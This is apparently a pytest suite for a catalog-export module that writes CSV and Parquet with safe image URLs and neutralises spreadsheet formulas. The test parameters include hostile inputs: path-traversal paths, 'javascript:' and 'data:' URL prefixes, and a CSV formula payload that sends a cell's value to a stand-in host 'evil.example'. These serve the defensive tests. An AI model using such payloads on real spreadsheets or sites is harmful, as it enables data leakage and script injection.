"""`outputs.export`: the table a catalog writes back to its product database: exact columns
and order, image URLs (prefixed and quoted, or the manifest's own), the rows a catalog should
publish, CSV that is safe in a spreadsheet, Parquet that keeps every type."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import fsspec
import polars as pl
import pytest

from nbp.outputs.export import (
    FORMULA_STARTS,
    ExportInputError,
    build_export,
    check_url_prefix,
    export_columns,
    export_location,
    join_url,
    read_for_export,
    to_csv,
    to_parquet,
)
from nbp.outputs.manifest import MANIFEST_NAME, ManifestInvalid, rows_to_frame
from nbp.outputs.sink import Sink

PREFIX = "https://cdn.example.com/catalog"
ALLOWED = ("http", "https", "s3", "gs", "gcs", "az", "abfs", "memory")
COLUMNS = ["key_sku", "key_variant", "aspect_ratio", "resolution", "image_url", "sha256",
           "status", "review", "cell_id", "output_path"]


def cell(cell_id: str, path: str, **values: Any) -> dict[str, Any]:
    """A manifest row of a succeeded cell whose image is at `path` in target `/t`."""
    base: dict[str, Any] = {
        "cell_id": cell_id, "job": "spring", "run_id": "run-1", "status": "succeeded",
        "aspect_ratio": "1:1", "resolution": "1K", "output_path": path,
        "output_uri": f"/t/{path}", "sha256": cell_id * 8,
    }
    return {**base, **values}


def manifest(rows: list[dict[str, Any]], **keys: pl.Series) -> pl.DataFrame:
    """A manifest as the catalog work writes it: the fixed columns, then typed `key_*` ones."""
    return rows_to_frame(rows).with_columns(series.alias(name) for name, series in keys.items())


def catalog() -> pl.DataFrame:
    """Two products with awkward SKUs, a refreshed path, a dropped product, a failed cell."""
    rows = [
        cell("c4", "ETE-Uni/4_5_1K.png", aspect_ratio="4:5", review="approved"),
        cell("c1", "TSH%2FRED XL/1_1_1K.png"),
        cell("c2", "TSH%2FRED XL/4_5_1K.png", aspect_ratio="4:5", review="rejected"),
        cell("c0", "TSH%2FRED XL/1_1_1K.png", superseded_by="c1",
             output_uri="/t/.nbp/history/c0.png"),
        cell("c3", "ÉTÉ-Ünï/1_1_2K.png", resolution="2K"),
        cell("c5", "OLD-1/1_1_1K.png", stale=True),
        cell("c6", "TSH%2FRED XL/1_1_2K.png", resolution="2K", status="failed",
             output_uri=None, sha256=None),
    ]
    return manifest(
        rows,
        key_sku=pl.Series(["ÉTÉ-Ünï", "TSH/RED XL", "TSH/RED XL", "TSH/RED XL", "ÉTÉ-Ünï",
                           "OLD-1", "TSH/RED XL"]),
        key_variant=pl.Series([2, 1, 1, 1, -5, 1, 1], dtype=pl.Int64),
    )


@pytest.fixture(params=["local", "memory"])
def target(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Sink]:
    if request.param == "local":
        yield Sink(str(tmp_path / "target"))
        return
    root = f"memory://nbp-export-{uuid.uuid4().hex}/target"
    yield Sink(root)
    memory = fsspec.filesystem("memory")
    if memory.exists(root):
        memory.rm(root, recursive=True)


def save(sink: Sink, frame: pl.DataFrame) -> None:
    buffer = io.BytesIO()
    frame.write_parquet(buffer)
    sink.write_bytes(MANIFEST_NAME, buffer.getvalue(), overwrite=True)


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


# -- columns, rows, order ----------------------------------------------------------------------


def test_key_columns_then_the_catalog_columns_in_order_current_rows_sorted(target: Sink) -> None:
    save(target, catalog())
    frame = read_for_export(target)
    assert frame is not None
    export = build_export(frame, url_prefix=PREFIX)
    assert export.table.columns == COLUMNS
    assert export.keys == ("key_sku", "key_variant")
    assert export.table.select("key_sku", "key_variant", "aspect_ratio", "resolution",
                               "cell_id").rows() == [
        ("TSH/RED XL", 1, "1:1", "1K", "c1"),   # c0 was superseded by c1: left out
        ("TSH/RED XL", 1, "1:1", "2K", "c6"),
        ("TSH/RED XL", 1, "4:5", "1K", "c2"),
        ("ÉTÉ-Ünï", -5, "1:1", "2K", "c3"),
        ("ÉTÉ-Ünï", 2, "4:5", "1K", "c4"),
    ]  # OLD-1 is stale: left out
    assert export.left_out == 2
    assert export.table["review"].to_list() == [None, None, "rejected", None, "approved"]
    assert export.table["status"].to_list()[1] == "failed"
    assert export.notes() == ["2 superseded or stale row(s) left out (--all keeps them)"]


def test_csv_has_the_exact_columns_and_values(target: Sink) -> None:
    save(target, catalog())
    frame = read_for_export(target)
    assert frame is not None
    lines = parsed(to_csv(build_export(frame, url_prefix=PREFIX).table))
    assert lines[0] == COLUMNS
    assert lines[1] == [
        "TSH/RED XL", "1", "1:1", "1K", f"{PREFIX}/TSH%252FRED%20XL/1_1_1K.png", "c1" * 8,
        "succeeded", "", "c1", "TSH%2FRED XL/1_1_1K.png",
    ]
    assert lines[2][4:6] == ["", ""]  # failed: no image, no sha256
    assert lines[4][:2] == ["ÉTÉ-Ünï", "-5"]  # a typed number is a value, not a formula
    assert lines[4][4] == f"{PREFIX}/%C3%89T%C3%89-%C3%9Cn%C3%AF/1_1_2K.png"
    assert len(lines) == 6


def test_parquet_keeps_the_columns_and_their_types(target: Sink) -> None:
    save(target, catalog())
    frame = read_for_export(target)
    assert frame is not None
    table = pl.read_parquet(io.BytesIO(to_parquet(build_export(frame, url_prefix=PREFIX).table)))
    assert table.columns == COLUMNS
    assert table.schema["key_variant"] == pl.Int64
    assert table.schema["key_sku"] == pl.String
    assert table["image_url"][0] == f"{PREFIX}/TSH%252FRED%20XL/1_1_1K.png"
    assert table["key_sku"].to_list() == ["TSH/RED XL"] * 3 + ["ÉTÉ-Ünï"] * 2


def test_all_keeps_superseded_and_stale_rows_and_says_which_they_are() -> None:
    export = build_export(catalog(), url_prefix=PREFIX, include_all=True)
    assert export.table.columns == [*COLUMNS, "superseded_by", "stale"]
    assert export.left_out == 0
    assert export.table.height == 7
    old = export.table.row(by_predicate=pl.col("cell_id") == "c0", named=True)
    assert old["superseded_by"] == "c1"
    assert old["image_url"] is None  # its path holds c1's image now; its own is history
    stale = export.table.row(by_predicate=pl.col("cell_id") == "c5", named=True)
    assert stale["stale"] is True
    assert stale["image_url"] == f"{PREFIX}/OLD-1/1_1_1K.png"  # still in place


def test_without_a_prefix_the_image_url_is_the_manifests_output_uri() -> None:
    export = build_export(catalog(), include_all=True)
    urls = dict(export.table.select("cell_id", "image_url").rows())
    assert urls["c1"] == "/t/TSH%2FRED XL/1_1_1K.png"
    assert urls["c0"] == "/t/.nbp/history/c0.png"  # a superseded row: its history copy
    assert urls["c6"] is None


def test_a_manifest_without_key_columns_is_keyed_by_cell_id() -> None:
    frame = rows_to_frame([cell("b", "b.png", aspect_ratio="4:5"), cell("a", "a.png"),
                           cell("b2", "b2.png", aspect_ratio="1:1")])
    export = build_export(frame)
    assert export.keys == ()
    assert export.table.columns == ["cell_id", "aspect_ratio", "resolution", "image_url",
                                    "sha256", "status", "review", "output_path"]
    assert export.table["cell_id"].to_list() == ["a", "b", "b2"]
    assert export.notes()[0].startswith("the manifest has no key_* columns")


def test_export_columns() -> None:
    assert export_columns([]) == ["cell_id", "aspect_ratio", "resolution", "image_url",
                                  "sha256", "status", "review", "output_path"]
    assert export_columns(["key_sku"], include_all=True)[-4:] == [
        "cell_id", "output_path", "superseded_by", "stale"]


def test_emulated_rows_are_counted_for_a_warning() -> None:
    frame = rows_to_frame([cell("a", "a.png", emulated=True), cell("b", "b.png")])
    export = build_export(frame)
    assert export.emulated == 1
    assert any("placeholder images" in note for note in export.notes())


# -- image URLs --------------------------------------------------------------------------------


@pytest.mark.parametrize(("prefix", "path", "url"), [
    pytest.param("https://cdn.example.com/cat", "TSH%2FRED XL/1_1_1K.png",
                 "https://cdn.example.com/cat/TSH%252FRED%20XL/1_1_1K.png", id="escaped-slash"),
    pytest.param("https://cdn.example.com/cat/", "a b/c.png",
                 "https://cdn.example.com/cat/a%20b/c.png", id="space-trailing-slash"),
    pytest.param("https://cdn.example.com//", "x.png", "https://cdn.example.com/x.png",
                 id="one-slash-between"),
    pytest.param("s3://bucket/p", "ÉTÉ-Ünï/4:5.png",
                 "s3://bucket/p/%C3%89T%C3%89-%C3%9Cn%C3%AF/4%3A5.png", id="unicode"),
    pytest.param("https://h", "a+b=c@d#e?f&g.png", "https://h/a%2Bb%3Dc%40d%23e%3Ff%26g.png",
                 id="reserved"),
])
def test_join_url_quotes_every_path_segment(prefix: str, path: str, url: str) -> None:
    assert join_url(prefix, path) == url


@pytest.mark.parametrize("path", ["../../etc/passwd.png", "/abs/x.png", "https://evil/x.png",
                                  "a//b.png", "a\\b.png"])
def test_an_unsafe_output_path_gets_no_url(path: str) -> None:
    export = build_export(rows_to_frame([cell("a", path)]), url_prefix=PREFIX)
    assert export.table["image_url"].to_list() == [None]
    assert export.unsafe_paths == 1


@pytest.mark.parametrize(("given", "checked"), [
    ("https://cdn.example.com/catalog/", "https://cdn.example.com/catalog"),
    ("HTTPS://CDN.example.com/A", "https://CDN.example.com/A"),
    ("http://localhost:8080", "http://localhost:8080"),
    ("s3://bucket/images", "s3://bucket/images"),
    ("gs://bucket", "gs://bucket"),
])
def test_url_prefix_accepted(given: str, checked: str) -> None:
    assert check_url_prefix(given, protocols=ALLOWED) == checked


@pytest.mark.parametrize("prefix", [
    pytest.param("javascript:alert(1)//", id="javascript"),
    pytest.param("javascript://cdn.example.com/%0aalert(1)", id="javascript-slashes"),
    pytest.param("data:text/html,<script>", id="data"),
    pytest.param("file:///etc", id="file"),
    pytest.param("ftp://cdn.example.com", id="ftp"),
    pytest.param("simplecache::https://cdn.example.com", id="chained"),
    pytest.param("cdn.example.com/catalog", id="no-scheme"),
    pytest.param("/srv/images", id="a-path"),
    pytest.param("https://", id="no-host"),
    pytest.param("https:/cdn.example.com", id="one-slash"),
    pytest.param("https://user:secret@cdn.example.com", id="credentials"),
    pytest.param("https://cdn.example.com/x?sig=1", id="query"),
    pytest.param("https://cdn.example.com/x#a", id="fragment"),
    pytest.param("https://cdn.example.com/a b", id="space"),
    pytest.param("https://cdn.example.com/\nx", id="newline"),
    pytest.param("", id="empty"),
])
def test_url_prefix_refused(prefix: str) -> None:
    with pytest.raises(ExportInputError) as refused:
        check_url_prefix(prefix, protocols=ALLOWED)
    assert "secret" not in str(refused.value)


# -- CSV ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "=",
])
def test_csv_cells_that_would_be_formulas_get_a_quote(value: str) -> None:
    frame = manifest([cell("a", "a.png", review=value)], key_sku=pl.Series([value]))
    row = parsed(to_csv(build_export(frame).table))[1]
    assert row[0] == "'" + value
    assert row[COLUMNS.index("review") - 1] == "'" + value  # no key_variant here
    assert value[0] in FORMULA_STARTS


@pytest.mark.parametrize("value", ["a=b", "SKU-1", "'=already", " =1", "€5", "1e5"])
def test_csv_leaves_other_text_as_it_is(value: str) -> None:
    frame = manifest([cell("a", "a.png")], key_sku=pl.Series([value]))
    assert parsed(to_csv(build_export(frame).table))[1][0] == value


def test_csv_is_utf8_with_quotes_commas_and_newlines_escaped() -> None:
    values = ['Shirt, "red"', "line\nbreak", "Ünïcödé ✓ 日本", "", None]
    frame = manifest([cell(f"c{i}", f"p{i}.png") for i in range(len(values))],
                     key_sku=pl.Series(values, dtype=pl.String))
    data = to_csv(build_export(frame).table)
    assert not data.startswith(b"\xef\xbb\xbf")  # no byte-order mark
    assert b'"Shirt, ""red"""' in data
    assert "Ünïcödé ✓ 日本".encode() in data
    column = [row[0] for row in parsed(data)[1:]]
    assert sorted(column) == sorted(['Shirt, "red"', "line\nbreak", "Ünïcödé ✓ 日本", "", ""])
    back = pl.read_csv(io.BytesIO(data))
    assert back["key_sku"].to_list()[:3] == ["", 'Shirt, "red"', "line\nbreak"]  # "" < "S" < "l"
    assert back["key_sku"].to_list()[-1] is None  # nulls last, an empty field


# -- reading and writing -----------------------------------------------------------------------


def test_read_for_export_no_manifest_and_unreadable_ones(target: Sink) -> None:
    assert read_for_export(target) is None
    target.write_bytes(MANIFEST_NAME, b"not parquet", overwrite=True)
    with pytest.raises(ManifestInvalid, match="is not a manifest nbp can read"):
        read_for_export(target)
    save(target, manifest([cell("a", "a.png")], key_sku=pl.Series([["x", "y"]])))
    with pytest.raises(ManifestInvalid, match="key column 'key_sku' is List"):
        read_for_export(target)


def test_export_location_folder_file_and_fsspec_url(tmp_path: Path) -> None:
    target = Sink(str(tmp_path / "t"))
    sink, name = export_location(str(tmp_path), "parquet", target=target)
    assert sink.uri(name) == str(tmp_path / "export.parquet")
    sink, name = export_location(str(tmp_path / "new") + "/", "csv", target=target)
    assert sink.uri(name) == str(tmp_path / "new" / "export.csv")
    sink, name = export_location("memory://exports/week-12.csv", "csv", target=target)
    assert (sink.uri(name), name) == ("memory:///exports/week-12.csv", "week-12.csv")


@pytest.mark.parametrize("inside", [MANIFEST_NAME, "INDEX.html", ".nbp/runs/x.json"])
def test_export_location_never_overwrites_what_nbp_keeps_in_the_target(
    tmp_path: Path, inside: str
) -> None:
    target = Sink(str(tmp_path / "t"))
    with pytest.raises(ExportInputError, match="target's own"):
        export_location(str(tmp_path / "t" / inside), "parquet", target=target)
    with pytest.raises(ExportInputError, match="target's own"):
        export_location(f"memory://t-{tmp_path.name}/{inside}", "csv",
                        target=Sink(f"memory://t-{tmp_path.name}"))
    _, name = export_location(str(tmp_path / "t" / "export.csv"), "csv", target=target)
    assert name == "export.csv"  # beside them is fine
